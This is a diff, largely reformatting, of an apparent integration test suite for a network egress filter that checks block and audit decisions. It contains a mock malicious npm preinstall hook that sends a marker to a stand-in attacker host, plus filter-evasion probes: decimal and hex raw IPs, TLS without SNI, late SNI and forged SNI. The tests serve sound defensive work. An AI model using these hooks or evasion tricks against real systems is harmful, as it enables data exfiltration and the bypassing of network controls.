@@ -83,18 +83,28 @@ for (const mode of ['block', 'audit'] as const) {
       const project = path.join(world.dir, `npm-project-${mode}`);
       mkdirSync(project, { recursive: true });
       const steal = `require('https').get('https://attacker.test/collect?d=${marker}', (r) => { r.resume(); r.on('end', () => process.exit(0)); }).on('error', (e) => { console.error('preinstall: ' + e.code); process.exit(0); })`;
-      writeFileSync(path.join(project, 'package.json'), JSON.stringify({
-        name: 'victim', version: '1.0.0', private: true,
-        scripts: { preinstall: `node -e "${steal.replace(/"/g, '\\"')}"` },
-        dependencies: { [PACKAGE.name]: PACKAGE.version },
-      }));
+      writeFileSync(
+        path.join(project, 'package.json'),
+        JSON.stringify({
+          name: 'victim',
+          version: '1.0.0',
+          private: true,
+          scripts: { preinstall: `node -e "${steal.replace(/"/g, '\\"')}"` },
+          dependencies: { [PACKAGE.name]: PACKAGE.version },
+        }),
+      );
       const result = await world.job('npm', ['install', '--no-audit', '--no-fund', '--foreground-scripts'], {
-        cwd: project, timeoutMs: 90_000,
+        cwd: project,
+        timeoutMs: 90_000,
         env: {
-          npm_config_registry: 'https://registry.test/', npm_config_cafile: world.caFile, NODE_EXTRA_CA_CERTS: world.caFile,
-          npm_config_cache: path.join(world.dir, `npm-cache-${mode}`), npm_config_update_notifier: 'false',
+          npm_config_registry: 'https://registry.test/',
+          npm_config_cafile: world.caFile,
+          NODE_EXTRA_CA_CERTS: world.caFile,
+          npm_config_cache: path.join(world.dir, `npm-cache-${mode}`),
+          npm_config_update_notifier: 'false',
           // npm itself honours the proxy variables; the preinstall's https.get does not.
-          HTTPS_PROXY: 'http://127.0.0.1:3128', https_proxy: 'http://127.0.0.1:3128',
+          HTTPS_PROXY: 'http://127.0.0.1:3128',
+          https_proxy: 'http://127.0.0.1:3128',
         },
       });
       assert.equal(result.code, 0, `npm install failed: ${result.stderr}`);
@@ -136,7 +146,10 @@ for (const mode of ['block', 'audit'] as const) {
     test('3: raw-IP connects (https://203.0.113.77/, http://<decimal>/, http://<hex>/) are decided as raw-ip', async () => {
       const before = world.internetLog().length;
       const decimal = String(NET.rawOnly.split('.').reduce((n, o) => n * 256 + Number(o), 0));
-      const hex = `0x${NET.rawOnly.split('.').map((o) => Number(o).toString(16).padStart(2, '0')).join('')}`;
+      const hex = `0x${NET.rawOnly
+        .split('.')
+        .map((o) => Number(o).toString(16).padStart(2, '0'))
+        .join('')}`;
       const tls = await curl([`https://${NET.rawOnly}/`]);
       const dec = await curl(['-i', `http://${decimal}/`]);
       const hx = await curl(['-i', `http://${hex}/`]);
@@ -146,7 +159,10 @@ for (const mode of ['block', 'audit'] as const) {
         assert.equal(e.event === 'decision' && e.reason, 'raw-ip');
         assert.equal(e.event === 'decision' && e.decision, outcomeFor(mode));
       }
-      const arrived = world.internetLog().slice(before).filter((e) => e.type === 'http' && e.local && String(e.local).endsWith(NET.rawOnly));
+      const arrived = world
+        .internetLog()
+        .slice(before)
+        .filter((e) => e.type === 'http' && e.local && String(e.local).endsWith(NET.rawOnly));
       if (mode === 'block') {
         assert.notEqual(tls.code, 0);
         assert.match(dec.stdout, /403/);
@@ -200,7 +216,7 @@ for (const mode of ['block', 'audit'] as const) {
       }
     });
 
-    test('6b: TLS without SNI to an allowed name\'s address is decided as a raw IP, not by DNS attribution', async () => {
+    test("6b: TLS without SNI to an allowed name's address is decided as a raw IP, not by DNS attribution", async () => {
       const resolved = await world.job('dig', ['+short', 'allowed.test']);
       assert.match(resolved.stdout, new RegExp(NET.allowed.replace(/\./g, '\\.')));
       const script = `const tls=require('tls');const s=tls.connect({host:'${NET.allowed}',port:443,servername:'',rejectUnauthorized:false},()=>{s.end('GET /no-sni-${mode} HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n')});s.on('data',()=>{});s.on('end',()=>process.exit(0));s.on('error',(e)=>{console.error(e.code);process.exit(3)});`;
@@ -212,7 +228,7 @@ for (const mode of ['block', 'audit'] as const) {
       assert.equal(result.code, mode === 'block' ? 3 : 0, result.stderr);
     });
 
-    test('6c: a ClientHello held back past the peek, to an allowed name\'s address, is still checked', async () => {
+    test("6c: a ClientHello held back past the peek, to an allowed name's address, is still checked", async () => {
       // A shared (CDN) address: the connection is first attributed to allowed.test through DNS, then the
       // client names another site in its late SNI.
       const resolved = await world.job('dig', ['+short', 'allowed.test']);
@@ -221,7 +237,15 @@ for (const mode of ['block', 'audit'] as const) {
       const script = `const net=require('net');const tls=require('tls');const fs=require('fs');const raw=net.connect(443,'${NET.allowed}',()=>{setTimeout(()=>{const s=tls.connect({socket:raw,servername:'attacker.test',ca:fs.readFileSync('${world.caFile}')},()=>{s.end('GET /${marker} HTTP/1.1\\r\\nHost: attacker.test\\r\\nConnection: close\\r\\n\\r\\n')});s.on('data',()=>{});s.on('end',()=>process.exit(0));s.on('error',(e)=>{console.error(e.code);process.exit(3)})},2500)});raw.on('error',(e)=>{console.error(e.code);process.exit(3)});`;
       const result = await world.job('node', ['-e', script]);
       const event = await world.decision((e) => e.kind === 'transparent' && e.sni === 'attacker.test' && e.ip === NET.allowed);
-      assert.ok(event, `a decision on the late SNI; client ${result.code} ${result.stderr}; events on ${NET.allowed}: ${JSON.stringify(world.events().filter((e) => 'ip' in e && e.ip === NET.allowed).slice(-4))}`);
+      assert.ok(
+        event,
+        `a decision on the late SNI; client ${result.code} ${result.stderr}; events on ${NET.allowed}: ${JSON.stringify(
+          world
+            .events()
+            .filter((e) => 'ip' in e && e.ip === NET.allowed)
+            .slice(-4),
+        )}`,
+      );
       assert.equal(event.host, 'attacker.test');
       assert.equal(event.decision, outcomeFor(mode));
       assertTlsRequestOutcome(mode, result, marker);
@@ -333,7 +357,10 @@ for (const mode of ['block', 'audit'] as const) {
       const forgedEvent = await world.decision((e) => e.kind === 'transparent' && e.ip === NET.attacker6 && e.sni === 'allowed.test');
       assert.equal(forgedEvent?.reason, 'sni-mismatch');
       assert.equal(forgedEvent?.decision, outcomeFor(mode));
-      const udp = await world.job('node', ['-e', `const d=require('dgram').createSocket('udp6');d.send('v6-${mode}',9999,'${NET.attacker6}',(e)=>{console.log(e?e.code:'sent');setTimeout(()=>process.exit(0),200)});`]);
+      const udp = await world.job('node', [
+        '-e',
+        `const d=require('dgram').createSocket('udp6');d.send('v6-${mode}',9999,'${NET.attacker6}',(e)=>{console.log(e?e.code:'sent');setTimeout(()=>process.exit(0),200)});`,
+      ]);
       assert.equal(udp.code, 0);
       await new Promise((r) => setTimeout(r, 300));
       const arrived = arrivedAt((e) => (e.type === 'http' && (String(e.local).includes(NET.rawOnly6) || e.url === '/v6-forged')) || (e.type === 'udp' && e.data === `v6-${mode}`));
